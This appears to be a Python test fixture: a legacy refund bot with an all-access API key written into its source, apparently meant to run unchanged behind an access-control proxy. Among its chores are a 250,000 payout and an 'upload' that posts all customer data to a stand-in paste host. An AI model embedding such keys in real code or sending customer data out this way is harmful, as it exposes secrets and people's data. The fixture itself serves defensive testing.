"""The refund bot, as it was written years ago: one shared key in its source, no idea of proxies or missions.

Must not know: Exeat. It runs unchanged; the environment alone routes it.
"""

from __future__ import annotations

import json
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import suppress
from typing import Any

API = "https://api.acme.test"
API_KEY = "sk_live_7Qm2Xv9Lr4Tz8Kp1"  # it reaches everything, it is in every copy of this file, and everybody uses it


def call(method: str, url: str, body: dict[str, Any] | None = None) -> tuple[int, Any]:
    """Send one request with the shared key; return status and JSON."""
    headers = {"Authorization": f"Bearer {API_KEY}", "Content-Type": "application/json"}
    data = None if body is None else json.dumps(body).encode()
    with suppress(ImportError):
        import requests

        answer = requests.request(method, url, headers=headers, data=data, timeout=10)
        return answer.status_code, answer.json()
    request = urllib.request.Request(url, data, headers, method=method)  # noqa: S310 the bot's own constant
    try:
        with urllib.request.urlopen(request, timeout=10) as opened:  # noqa: S310
            return opened.status, json.load(opened)
    except urllib.error.HTTPError as error:
        return error.code, json.load(error)


def events() -> Iterator[str]:
    """The live feed, line by line, until it ends."""
    request = urllib.request.Request(f"{API}/v1/events", headers={"Authorization": f"Bearer {API_KEY}"})  # noqa: S310
    with urllib.request.urlopen(request, timeout=10) as opened:  # noqa: S310
        for line in opened:
            yield line.decode().strip()


def main() -> int:
    """Do one chore and say how it went."""
    chore = sys.argv[1]
    if chore == "follow":
        count, last = 0, ""
        try:
            for line in events():
                last = line or last
                if line:
                    count += 1
                    sys.stdout.write(f"bot: event {count}\n")
                    sys.stdout.flush()
        except (OSError, ValueError) as error:
            sys.stdout.write(f"bot: the feed broke after {count} events ({type(error).__name__})\n")
        else:  # older Pythons show a reset under TLS as a plain end, so the feed's own last line has to tell
            whole = last == "data: end"
            sys.stdout.write(f"bot: the feed {'ended' if whole else 'broke'} after {count} events\n")
        return 0
    method, url, body = {
        "list": ("GET", f"{API}/v1/refunds", None),
        "refund": ("POST", f"{API}/v1/refunds", {"invoice": "A-17", "amount": 1900}),
        "payout": ("POST", f"{API}/v1/payouts", {"iban": "XX00", "amount": 250000}),
        "upload": ("POST", "https://paste.elsewhere.test/upload", {"customers": "all of them"}),
    }[chore]
    status, answer = call(method, url, body)
    said = answer.get("message") or json.dumps(answer)
    sys.stdout.write(f"bot: {method} {url} -> {status}: {said}\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
